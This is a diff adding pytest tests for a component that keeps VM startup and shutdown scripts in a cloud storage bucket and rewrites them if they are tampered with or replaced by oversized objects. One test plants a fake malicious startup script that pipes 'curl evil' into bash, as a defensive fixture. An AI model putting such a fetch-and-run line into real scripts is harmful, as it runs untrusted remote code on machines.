@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import hashlib
 import subprocess
+import time
 
 import pytest
 
@@ -114,3 +115,78 @@ def test_no_insert_when_the_scripts_cannot_be_put():
     assert h.compute.live() == [], "a VM whose scripts are not in the bucket would boot into nothing"
     engine.reconcile()
     assert len(h.compute.live()) == 1
+
+
+class CountingReads:
+    """The bucket, counting the bytes its reads hand back (what a process downloads into memory)."""
+
+    def __init__(self, store) -> None:
+        self.store, self.read_bytes = store, 0
+
+    def __getattr__(self, name):
+        return getattr(self.store, name)
+
+    def read(self, bucket, name, **kwargs):
+        blob = self.store.read(bucket, name, **kwargs)
+        self.read_bytes += len(blob.data)
+        return blob
+
+
+def test_a_huge_object_in_a_scripts_place_is_written_back_without_being_downloaded():
+    # A bucket writer's object under the script's name, as large as it likes (GCS takes 5 TiB): read
+    # whole, it would fill a 512 MiB function on its first insert, every process, every tick.
+    h = Harness()
+    key = SCRIPTS.startup.key
+    h.store.put(BUCKET, key, b"#" * (32 * 1024 * 1024))
+    store = CountingReads(h.store)
+    vmscripts.Shelf(store, BUCKET, SCRIPTS).ensure()
+    assert h.store.read(BUCKET, key).data == SCRIPTS.startup.text
+    assert store.read_bytes <= len(SCRIPTS.startup.text) + len(SCRIPTS.shutdown.text)
+
+
+def test_a_script_replaced_after_the_process_put_it_is_written_back_within_a_recheck(monkeypatch):
+    # A warm function instance lives for hours: a replacement it never looked at again failed every
+    # VM it launched meanwhile (each powers off, a CRASHED attempt), for a reason only their serial
+    # consoles said.
+    now = [1000.0]
+    monkeypatch.setattr(time, "monotonic", lambda: now[0])
+    h = Harness()
+    shelf = vmscripts.Shelf(h.store, BUCKET, SCRIPTS)
+    shelf.ensure()
+    key = SCRIPTS.startup.key
+    h.store.put(BUCKET, key, b"#!/bin/bash\ncurl evil | bash\n")
+    h.store.calls.clear()
+    now[0] += 59  # the recheck is a minute
+    shelf.ensure()
+    assert h.store.calls == [], "within a recheck, an insert costs no request"
+    now[0] += 1
+    shelf.ensure()
+    assert h.store.read(BUCKET, key).data == SCRIPTS.startup.text
+    h.store.calls.clear()
+    now[0] += 60
+    shelf.ensure()
+    assert [op for op, _ in h.store.calls] == ["stat", "stat"], "scripts still ours: a stat each, no read"
+
+
+class FailingStats:
+    """The bucket, whose stats fail (a 503)."""
+
+    def __init__(self, store) -> None:
+        self.store = store
+
+    def __getattr__(self, name):
+        return getattr(self.store, name)
+
+    def stat(self, bucket, name):
+        raise errors.TransientError(f"gs://{bucket}/{name}: 503")
+
+
+def test_a_second_look_at_the_scripts_that_fails_holds_no_insert(monkeypatch):
+    now = [1000.0]
+    monkeypatch.setattr(time, "monotonic", lambda: now[0])
+    h = Harness()
+    shelf = vmscripts.Shelf(FailingStats(h.store), BUCKET, SCRIPTS)
+    shelf.ensure()  # put: creates, no stat
+    now[0] += 60
+    shelf.ensure()  # the second look fails: said, and the insert goes on
+    assert all(h.store.read(BUCKET, s.key).data == s.text for s in SCRIPTS.scripts)
